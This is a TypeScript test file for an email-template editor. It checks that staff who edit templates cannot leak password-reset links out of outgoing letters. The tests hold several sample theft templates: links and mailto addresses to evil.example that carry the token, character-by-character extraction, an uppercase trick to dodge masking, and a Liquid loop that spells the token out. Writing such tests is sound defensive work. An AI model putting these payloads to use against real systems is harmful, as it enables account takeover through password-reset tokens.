// Staff who may edit letters and no more: what they write must not carry the link of somebody's letter to themselves, or
// editing letters would be the power to take over every sign-in, those of administrators first.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { systemActor } from '#domain/audit/actor.ts';
import { sendPasswordLink } from '#domain/login/password-links.ts';
import { fillIn } from '#domain/mail/edited-text.ts';
import { findTemplateByName } from '#domain/mail/email-templates.ts';
import { letterHistory, liveLetterOf } from '#domain/mail/outbox.ts';
import { saveText } from '#domain/mail/template-changes.ts';
import type { World } from '#tests/world.ts';
import { testWorld } from '#tests/world.ts';

const URL_OF = 'https://host.example.test/password/set/';
const TOKEN = 'Zm9vYmFyYmF6cXV4X2EtYl9jLWRfZS1mX2ctaF9pLWo';

/** Spells a link out sign by sign, by asking what it begins with. */
function speller(): string {
  const signs = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'];
  const tries = signs.map(
    (sign) =>
      `{% assign q = p | append: "${sign}" %}{% if link contains q and done == 0 %}{% assign n = q %}{% assign done = 1 %}${sign} {% endif %}`,
  );
  return `{{ link }}\n\n{% assign p = "/password/set/" %}{% for i in (1..43) %}{% assign done = 0 %}{% assign n = p %}${tries.join('')}{% assign p = n %}{% endfor %}`;
}

const THEFTS: Readonly<Record<string, string>> = {
  'an address that takes it along': '{{ link }}\n\n<a href="https://evil.example/?t={{ link }}">Sign in</a>',
  'a mailbox that takes it along': '{{ link }}\n\n<a href="mailto:e@evil.example?body={{ link }}">Help</a>',
  'words that mail programs make a link of': '{{ link }}\n\nhttps://evil.example/{{ link }}',
  'the same in two pieces': '{{ link }}\n\nhttps://evil.example/<b>{{ link }}</b>',
  'sign by sign, by its places':
    '{{ link }}\n\n{{ link[40] }} {{ link[41] }} {{ link[42] }} {{ link[43] }} {{ link[44] }}',
  'in capitals, which no mask knows': '{{ link }}\n\n{{ link | upcase }}',
  'sign by sign, by asking': speller(),
};

test('no text carries the link of a letter anywhere but to whoever the letter is for', async (t) => {
  for (const [how, body] of Object.entries(THEFTS))
    await t.test(how, async () => {
      const filling = {
        values: {},
        button: { label: 'Open', url: URL_OF + TOKEN },
        link: 'needed',
        strict: false,
      } as const;
      let came = '';
      try {
        came = JSON.stringify(await fillIn({ subject: 'Hello', body, small: '' }, filling));
      } catch (error) {
        assert.equal((error as Error).name, 'TextFault');
        return;
      }
      assert.fail(came);
    });
});

test('a link that stands as a whole stays where staff put it', async () => {
  const bodies = [
    '{% button "Open" %}',
    '<p>Open <a href="{{ link }}">this</a>, or {{ link }}.</p>',
    '<a href="{{link}}"><b>{{link}}</b></a> ({{ link }}) <b>{{ link }}</b>',
    '请点击{{ link }}。谢谢：{{ link }}',
    '{% if link != "" %}{{ link }}{% endif %}',
    '<ul><li>{{ link }}</li></ul><table><tr><td>{{ link }}</td></tr></table>',
  ];
  for (const body of bodies) {
    const button = { label: 'Open', url: URL_OF + TOKEN };
    await fillIn({ subject: 'Hello', body, small: '{{ link }}' }, { values: {}, button, link: 'needed', strict: true });
  }
});

test('a text of a thief that was kept before anybody looked goes to nobody: the shipped one goes out', async () => {
  const world: World = await testWorld('sqlite');
  const { ctx, cast } = world;
  const actor = systemActor('Test');
  try {
    const template = await findTemplateByName(ctx, 'Password Reset Validation');
    assert.ok(template);
    const evil = '{{ link }} <a href="https://evil.example/{{ link }}">Sign in</a>';
    const given = { subject: 'Hello', body: evil, small: '' };
    await assert.rejects(saveText(ctx, actor, template.id, 'en', given), { kind: 'invalid' });
    await saveText(ctx, actor, template.id, 'en', { ...given, body: '{{ link }}' });
    await ctx.db
      .updateTable('email_template_texts')
      .set({ body: evil })
      .where('template_id', '=', template.id)
      .execute();
    await sendPasswordLink(ctx, actor, cast.ben.id, 'asked');
    const [newest] = await letterHistory(ctx, { userId: cast.ben.id }, { limit: 1 });
    const letter = await liveLetterOf(ctx, newest?.id ?? 0);
    assert.match(letter.text, /\/password\/set\/[\w-]{43}/);
    assert.doesNotMatch(letter.html + letter.text, /evil\.example/);
  } finally {
    await world.close();
  }
});
